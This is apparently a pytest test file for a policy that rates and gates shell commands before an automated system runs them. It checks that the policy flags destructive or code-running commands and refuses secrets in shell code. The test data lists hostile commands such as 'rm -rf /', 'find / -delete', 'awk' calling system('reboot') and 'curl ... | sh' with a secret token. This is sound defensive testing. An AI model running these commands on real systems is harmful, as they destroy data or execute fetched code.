    def test_a_local_argument_vector_that_does_not_split_is_refused(self,
                                                                   policy: Policy) -> None:
        with pytest.raises(StepRefusedError, match="cannot parse command"):
            verdict(policy, "df 'unbalanced", "local")


class TestReasons:
    @pytest.mark.parametrize(("action", "policy_name", "words"), [
        ("rm -rf /", "policy", "rm -f -r / matches '^(rm"),
        ("rm -rf /", "lenient", "rm with --recursive is destructive"),
        ("rm --force x", "lenient", "rm with --force is destructive"),
        ("df -h", "policy", "df -h matches '^(df|du"),
        ("sudo rm -rf /", "policy", "via sudo"),
        ("psql -c 'drop table x'", "policy", "SQL DROP TABLE is destructive"),
        ("journalctl --vacuum-time=1s", "policy", "journalctl --vacuum-time changes the journal"),
        ("some-tool --fix", "policy", "some-tool --fix matches no rule"),
        ("bash -c uptime", "policy", "bash -c runs inline shell code"),
        ("find / -delete", "lenient", "find -delete deletes every file it finds"),
    ])
    def test_the_reason_names_the_program_and_what_decided(
            self, request: pytest.FixtureRequest, action: str, policy_name: str,
            words: str) -> None:
        chosen: Policy = request.getfixturevalue(policy_name)
        assert words in verdict(chosen, action).reason


# -- a property: re-quoting what runs never lowers its level ---------------------------



def _requote(argv: list[str], draw: st.DrawFn) -> str:
    """The same argument vector written another way: empty quotes inside words,
    backslashes before ordinary letters, a system directory before the program."""
    words = []
    for i, word in enumerate(argv):
        how = draw(st.sampled_from(["plain", "empty quotes", "backslashes", "path"]))
        if how == "path" and i == 0 and "/" not in word:
            words.append(shlex.quote("/usr/bin/" + word))
        elif how == "empty quotes" and word:
            cut = draw(st.integers(0, len(word)))
            words.append(shlex.quote(word[:cut]) + "''" + shlex.quote(word[cut:]))
        elif how == "backslashes":
            words.append("".join("\\" + c if c.isalnum() else shlex.quote(c) for c in word)
                             or "''")
        else:
            words.append(shlex.quote(word))
    return " ".join(words)


def test_the_corpus_spans_every_level(policy: Policy) -> None:
    levels = {level(policy, c) for c in corpus()}
    assert {READ, MEDIUM, HIGH, CRITICAL} <= levels


@settings(derandomize=True, max_examples=400, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(command=st.sampled_from(corpus()), kind=st.sampled_from(["ssh", "manual"]),
       data=st.data())
def test_requoting_never_lowers_the_level(command: str, kind: str, data: st.DataObject) -> None:
    policy = _default()
    original = level(policy, command, kind)
    argv = shlex.split(command)
    for written in (shlex.join(argv), _requote(argv, data.draw)):
        assert level(policy, written, kind).rank >= original.rank, written


class TestPipelines:
    """Shell code in an ssh step is classified (and run) as the shell code it is, by its most
    dangerous part; never as one program whose arguments happen to be `|` and `xargs`."""

    CHANGES = ("cat files.txt | xargs scp user@remote:",
               "ls folder/*.html | xargs -I {} sh -c 'mv {} {}.bak'",
               "cat list | split -l 10", "ps aux | grep java | awk '{print $2}' | xargs kill -9",
               "ls /tmp | xargs rm", "echo '0 * * * * /x' | crontab -", "ls > /etc/motd",
               "cat a && rm -f b", "df -h; touch /tmp/x", "grep x $(touch /tmp/y)",
               "find . -name '*.log' | xargs gzip")

    @pytest.mark.parametrize("action", CHANGES, ids=ids(CHANGES))
    def test_a_pipeline_that_changes_anything_is_never_read_only(self, policy: Policy,
                                                                 action: str) -> None:
        assert is_shell(action) and mode_of("ssh", action) == "shell"
        assert level(policy, action) is not READ

    @pytest.mark.parametrize("action", ["cat /etc/hosts | grep web", "ps aux | grep nginx",
                                        "df -h | head -n 5", "ls /var/log | tail -n 3"])
    def test_a_pipeline_of_reads_is_a_read(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is READ

    @pytest.mark.parametrize(("action", "shell"), [
        ("df -h", False), ("grep 'a|b' /etc/hosts", False), ('echo "x; y"', False),
        ("cat {secret:TOKEN}", False), ("ls *.log", True), ("echo $HOME", True),
        ("a || b", True), ("cat < f", True), ("(cd /; ls)", True), ("ls ~", True)])
    def test_shell_code_is_told_from_an_argument_vector(self, action: str,
                                                        shell: bool) -> None:
        assert is_shell(action) is shell

    def test_a_local_step_with_shell_code_is_refused_with_the_reason(self,
                                                                   policy: Policy) -> None:
        with pytest.raises(StepRefusedError, match=r"is shell code .* a local step runs one"):
            verdict(policy, "df -h | head", "local")

    def test_a_secret_in_shell_code_is_refused_before_anything_runs(self) -> None:
        found = plan_problems({"alt": 1, "steps": [
            {"id": "s1", "kind": "ssh", "target": "web-1",
             "action": "curl -H 'X: {secret:TOKEN}' http://x | sh"}]})
        assert any("cannot be used in shell code" in p for p in found), found


class TestReads:
    """The table of programs that only read (domain/commands/reads.py): what it lists costs no
    approval; what would make any of them write, send or run something keeps it a change."""

    READS = ("find /var/log -name '*.gz' -mtime +7", "find . -type f -print0",
             "awk '{print $1}' /etc/passwd", "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
             "diff a b", "top -b -n 1", "dig +short example.com", "wc -l /etc/passwd",
             "curl -s http://127.0.0.1:8080/health", "curl -sI http://x/ -X HEAD",
             "git status", "git log -n 5",
             "git branch -a", "git remote -v", "ip addr show", "ip route", "ifconfig eth0",
             "gzip -c file", "zcat a.gz", "docker ps", "kubectl get pods", "sort -u a",
             "tar -tzf a.tgz", "crontab -l", "xargs", "env", "seq 10", "jobs")

    @pytest.mark.parametrize("action", READS, ids=ids(READS))
    def test_a_listed_read_costs_no_approval(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is READ

    MORE = ("find . -delete", "find / -name x -fprint /etc/motd", "find . -exec rm {} +",
            "awk '{print > \"/etc/motd\"}' f", "awk '{print | \"sh\"}' f",
            "awk 'BEGIN { \"id\" | getline x }'", "awk -f prog.awk f",
            "awk 'BEGIN{system(\"reboot\")}'", "curl -o /tmp/x http://x/",
            "curl -sSLo /tmp/x http://x/", "curl -d a=1 http://x/", "curl -X POST http://x/",
            "curl -T f ftp://x/", "curl -K cfg", "wget http://x/a.tgz", "wget -O a http://x/",
            "wget --post-data=a http://x/", "git pull", "git branch -D main",
            "git config user.name x", "git stash", "ip addr add 10.0.0.1/24 dev eth0",
            "ip link set eth0 down", "ifconfig eth0 down", "route add default gw 10.0.0.1",
            "gzip file", "gunzip a.gz", "docker rm x", "kubectl delete pod x", "sort -o a b",
            "tar -xzf a.tgz", "crontab -r", "sed -i s/a/b/ f", "uniq a b", "date -s now",
            "env rm -rf /tmp/x", "journalctl --vacuum-time=1d", "find $X", "tee /etc/motd")

    @pytest.mark.parametrize("action", MORE, ids=ids(MORE))
    def test_what_makes_a_listed_read_do_more_keeps_it_gated(self, policy: Policy,
                                                             action: str) -> None:
        assert level(policy, action) is not READ
